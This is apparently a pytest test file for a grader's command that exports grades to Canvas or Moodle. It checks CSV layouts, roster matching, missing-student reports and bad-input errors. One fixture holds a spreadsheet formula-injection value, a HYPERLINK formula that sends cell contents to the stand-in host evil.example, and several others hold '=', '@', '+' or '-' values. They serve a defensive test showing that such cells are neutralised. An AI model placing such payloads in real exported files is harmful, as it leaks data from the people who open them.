"""``python -m grader export``: grades into Canvas or Moodle.

A graded OUT is built by hand (``grade.json`` files written with ``save_submission``, no
grading run), then exported; each file is parsed back and checked against the layout the
vendor documents (docs/GRADER.md, "Grades into the LMS"), the report against the roster, and
every bad input against a one-line message with exit code 2.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from grader.__main__ import main
from grader.grading.runrecord import new_record, save_record
from grader.results.formats import STORED_FILE
from grader.results.model import ExerciseResult, SubmissionResult, TestOutcome
from grader.results.stored import save_submission

HOSTILE_ID = '=HYPERLINK("evil.example?"&A1,"open")'  # a folder name, from a zip's name
CANVAS_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]


def exercise(name: str, max_points: float, points: float) -> ExerciseResult:
    test = TestOutcome(name, "test_values[cpu]", "passed" if points else "failed")
    return ExerciseResult(name, name.title(), max_points, points, "graded", "", (test,))


def graded(student: str, losses: float, activations: float) -> SubmissionResult:
    """A graded submission out of 25 points (losses 15, activations 10)."""
    exercises = (exercise("losses", 15, losses), exercise("activations", 10, activations))
    return SubmissionResult(student, "graded", "", exercises)


def graded_out(root: Path, *results: SubmissionResult) -> Path:
    out = root / "out"
    for result in results:
        save_submission(result, out / result.student / STORED_FILE)
    (out / "gradebook.csv").write_text("not read by export\n", encoding="utf-8")
    return out


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """alice 20/25, bob 12.5/25, dave could not be graded, stray has no roster entry."""
    broken = SubmissionResult("dave", "error", "the zip archive is damaged (bad CRC)", ())
    return graded_out(
        tmp_path,
        graded("alice", 15, 5),
        graded("bob", 7.5, 5),
        broken,
        graded("stray", 15, 10),
    )


CANVAS_ROSTER = (
    # Canvas's own export plus a `submission` column: header case and spaces differ, a
    # column we do not use, Canvas's points row, a blank line; saved by Excel (BOM).
    "\ufeffstudent ,ID,SIS User ID,SIS Login ID,Section,Homework 1 (123),Submission\r\n"
    "    Points Possible,,,,,10,\r\n"
    '"Lee, Alice",1001,S-1,alice@uni.edu,Sec A,,alice\r\n'
    '"Ng, Bob",1002,S-2,bob@uni.edu,Sec A,,bob\r\n'
    ",,,,,,\r\n"
    '"Diaz, Carol",1003,S-3,carol@uni.edu,Sec B,,carol\r\n'
    '"Ito, Dave",1004,S-4,dave@uni.edu,Sec B,,dave\r\n'
)
MOODLE_ROSTER = (
    "First name,Last name,ID number,Email address,submission\n"
    "Alice,Lee,20001,alice@uni.edu,alice\n"
    "Bob,Ng,20002,bob@uni.edu,bob\n"
    "Carol,Diaz,20003,carol@uni.edu,\n"  # no submission id known
)


def write(path: Path, text: str | bytes) -> Path:
    if isinstance(text, str):
        text = text.encode("utf-8")
    path.write_bytes(text)
    return path


def rows(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf"), "no byte-order mark in an import file"
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def export(out: Path, roster: Path, *options: str) -> int:
    return main(["export", str(out), "--roster", str(roster), *options])


# --------------------------------------------------------------------------------------------
# The layouts


def test_canvas_file_has_the_documented_layout(out, tmp_path, capsys):
    roster = write(tmp_path / "roster.csv", CANVAS_ROSTER)
    assert export(out, roster, "--lms", "canvas", "--assignment", "Homework 1 (123)") == 0
    table = rows(out / "canvas-grades.csv")
    assert table[0] == [*CANVAS_HEADER, "Homework 1 (123)"]  # the columns, in Canvas's order
    assert table[1] == ["Points Possible", "", "", "", "", "25"]  # before any student
    students = table[2:]
    assert [row[:5] for row in students] == [  # one row per roster student, roster order
        ["Lee, Alice", "1001", "S-1", "alice@uni.edu", "Sec A"],
        ["Ng, Bob", "1002", "S-2", "bob@uni.edu", "Sec A"],
        ["Diaz, Carol", "1003", "S-3", "carol@uni.edu", "Sec B"],
        ["Ito, Dave", "1004", "S-4", "dave@uni.edu", "Sec B"],
    ]
    grades = [row[5] for row in students]
    assert grades == ["20", "12.5", "", ""]  # points as plain numbers; no grade is empty
    assert [float(g) for g in grades if g] == [20.0, 12.5]
    assert all(len(row) == 6 for row in table)
    assert (out / "canvas-grades.csv").read_bytes().count(b"\r\n") == len(table)
    printed = capsys.readouterr().out
    assert f"wrote {out / 'canvas-grades.csv'}: 4 roster students, 2 with a grade" in printed


def test_moodle_file_has_an_identifier_and_a_grade_column(out, tmp_path, capsys):
    roster = write(tmp_path / "roster.csv", MOODLE_ROSTER)
    target = tmp_path / "to-moodle.csv"
    assert export(out, roster, "--lms", "moodle", "--out", str(target)) == 0
    assert rows(target) == [
        ["Email address", "Deep-learning fundamentals"],  # the default grade item name
        ["alice@uni.edu", "20"],
        ["bob@uni.edu", "12.5"],
        ["carol@uni.edu", ""],
    ]
    assert (tmp_path / "to-moodle-report.csv").is_file()  # the report goes beside the file
    assert "note: Moodle refuses" not in capsys.readouterr().out  # 25 points: within 100

    by_id_number = tmp_path / "by-id.csv"
    options = ("--lms", "moodle", "--match-by", "idnumber", "--out", str(by_id_number))
    assert export(out, roster, *options, "--out-of", "100", "--missing-as-zero") == 0
    assert rows(by_id_number) == [
        ["ID number", "Deep-learning fundamentals"],
        ["20001", "80"],  # 20 of 25, rescaled to 100
        ["20002", "50"],
        ["20003", "0"],  # --missing-as-zero: asked for, so given
    ]
    # counted as written: 3 numbers, one of them the zero of a missing submission
    printed = capsys.readouterr().out
    assert "3 roster students, 3 with a number (2 graded, 1 given 0 for no submission)" in printed


def test_moodle_is_warned_about_totals_above_its_limit(tmp_path, capsys):
    out = graded_out(tmp_path, SubmissionResult("alice", "graded", "", (exercise("mlp", 130, 90),)))
    roster = write(tmp_path / "roster.csv", MOODLE_ROSTER)
    assert export(out, roster, "--lms", "moodle") == 0
    assert "note: Moodle refuses grades above 100" in capsys.readouterr().out
    assert rows(out / "moodle-grades.csv")[1] == ["alice@uni.edu", "90"]


# --------------------------------------------------------------------------------------------
# Who is missing, said both ways


def test_unmatched_submissions_and_students_are_reported(out, tmp_path, capsys):
    roster = write(tmp_path / "roster.csv", CANVAS_ROSTER)
    assert export(out, roster, "--lms", "canvas") == 0
    printed = capsys.readouterr().out
    assert "1 submission(s) with no roster entry, left out of the export: stray" in printed
    assert "Lee, Alice" not in printed
    # quoted: a name with a comma is one name, never two ("Diaz, Carol" is one student)
    assert '1 roster student(s) with no submission (empty cells): "Diaz, Carol"' in printed
    assert '1 submission(s) that could not be graded (empty cells): "Ito, Dave"' in printed
    report = rows(out / "canvas-grades-report.csv")
    assert report[0] == ["problem", "submission", "student", "detail"]
    assert report[1] == ["no roster entry", "stray", "", "left out: 25 of 25"]
    assert report[2] == ["no submission", "carol", "Diaz, Carol", "empty cell"]
    assert report[3][:3] == ["could not be graded", "dave", "Ito, Dave"]
    assert "bad CRC" in report[3][3]
    assert len(report) == 4
    assert "stray" not in (out / "canvas-grades.csv").read_text(encoding="utf-8")


def test_a_submission_the_last_run_found_but_did_not_grade_is_not_called_missing(
    out, tmp_path, capsys
):
    """carol's submission was found by the last grade run (run.json) but has no result yet
    (the run was interrupted, or --only left her out): OUT is out of date, and the export says
    so; with --missing-as-zero it refuses rather than give her 0."""
    record = new_record({}, (), ["alice", "bob", "carol", "dave", "stray"], ["alice"], None)
    save_record(record, out)
    roster = write(tmp_path / "roster.csv", CANVAS_ROSTER)
    assert export(out, roster, "--lms", "canvas") == 0
    printed = capsys.readouterr().out
    assert "warning: OUT is out of date: 1 roster student(s) have a submission not graded yet" \
        " (Diaz, Carol)" in printed  # fmt: skip
    assert export(out, roster, "--lms", "canvas", "--missing-as-zero") == 2
    said = capsys.readouterr().err
    assert said.count("\n") == 1 and "would give them 0" in said


def test_a_hostile_submission_id_is_never_a_formula(tmp_path, capsys):
    out = graded_out(
        tmp_path, graded("alice", 15, 10), graded(HOSTILE_ID, 1, 1), graded("-2+3", 1, 1)
    )
    roster = write(
        tmp_path / "roster.csv",
        'submission,Student,ID\nalice,"@SUM(1,2)",1001\n',  # a cell a spreadsheet would run
    )
    assert export(out, roster, "--lms", "canvas", "--assignment", "=1+1") == 0
    canvas = rows(out / "canvas-grades.csv")
    assert canvas[0][-1] == "'=1+1" and canvas[2][0] == "'@SUM(1,2)"
    report = rows(out / "canvas-grades-report.csv")
    assert [row[1] for row in report[1:]] == ["'-2+3", "'" + HOSTILE_ID]
    for table in (canvas, report):
        for row in table:
            assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row
    assert HOSTILE_ID in capsys.readouterr().out  # named on the terminal as it is


# --------------------------------------------------------------------------------------------
# Bad input: one line, exit code 2, nothing written


BAD_ROSTERS = {
    "not UTF-8": ("submission,ID\nmüller,1\n".encode("latin-1"), "is not UTF-8 text"),
    "empty": ("", "is empty: want a header line with a 'submission' column"),
    "no submission column": ("Student,ID\nAnn,1\n", "has no column 'submission'"),
    "semicolons": ("submission;ID\nalice;1\n", "it looks separated by ';'"),
    "twice the column": ("submission,ID,id\nalice,1,2\n", "has the column 'ID' more than once"),
    "a submission twice": ("submission,ID\nalice,1\nalice,2\n", "lines 2 and 3 both name"),
    "too many cells": ("submission,ID\nalice,1,oops\n", "line 2 has more cells than the header"),
    "no identifier column": ("submission,Student,Section\nalice,Ann,A\n", "has none of the"),
    "a student without an identifier": (
        "submission,Student,ID,SIS Login ID\nalice,Ann,1,\nbob,Bob,,\n",
        "line 3 (Bob): no ID or SIS Login ID",
    ),
    "two students, one ID": ("submission,ID\nalice,7\nbob,7\n", "share the ID '7'"),
}


@pytest.mark.parametrize("case", BAD_ROSTERS)
def test_a_bad_roster_is_one_line_and_exit_2(case, out, tmp_path, capsys):
    text, message = BAD_ROSTERS[case]
    roster = write(tmp_path / "roster.csv", text)
    assert export(out, roster, "--lms", "canvas") == 2
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err.count("\n") == 1, captured.err
    assert captured.err.startswith(f"grader: roster {roster}") and message in captured.err
    assert not (out / "canvas-grades.csv").exists()


def test_the_moodle_identifier_must_be_in_the_roster(out, tmp_path, capsys):
    roster = write(tmp_path / "roster.csv", MOODLE_ROSTER)
    assert export(out, roster, "--lms", "moodle", "--match-by", "username") == 2
    error = capsys.readouterr().err
    assert "has none of the columns 'Username', which Moodle matches students on" in error


@pytest.mark.parametrize(
    "problem",
    ["missing roster", "missing OUT", "OUT is a file", "nothing graded", "damaged result"],
)
def test_a_bad_out_or_missing_file_is_one_line_and_exit_2(problem, tmp_path, capsys):
    out = graded_out(tmp_path, graded("alice", 15, 10))
    roster = write(tmp_path / "roster.csv", CANVAS_ROSTER)
    expected = {
        "missing roster": "no such file",
        "missing OUT": "is not a directory",
        "OUT is a file": "is not a directory",
        "nothing graded": "holds no graded students",
        "damaged result": "is not a readable result",
    }[problem]
    if problem == "missing roster":
        roster = tmp_path / "nowhere.csv"
    elif problem == "missing OUT":
        out = tmp_path / "nowhere"
    elif problem == "OUT is a file":
        out = roster
    elif problem == "nothing graded":
        (out / "alice" / STORED_FILE).unlink()
    else:
        (out / "alice" / STORED_FILE).write_text('{"version": 1, "student": ', encoding="utf-8")
    assert export(out, roster, "--lms", "canvas") == 2
    error = capsys.readouterr().err
    assert error.startswith("grader: ") and error.count("\n") == 1 and expected in error, error


def test_the_export_never_overwrites_the_roster(out, tmp_path, capsys):
    roster = write(tmp_path / "roster.csv", CANVAS_ROSTER)
    assert export(out, roster, "--lms", "canvas", "--out", str(roster)) == 2
    assert "would overwrite the roster" in capsys.readouterr().err
    assert roster.read_bytes() == CANVAS_ROSTER.encode("utf-8")


def test_help_shows_the_defaults(capsys):
    with pytest.raises(SystemExit) as done:
        main(["export", "--help"])
    assert done.value.code == 0
    text = " ".join(capsys.readouterr().out.split())
    for default in ("(default: Deep-learning fundamentals)", "(default: email)", "<lms>-grades"):
        assert default in text
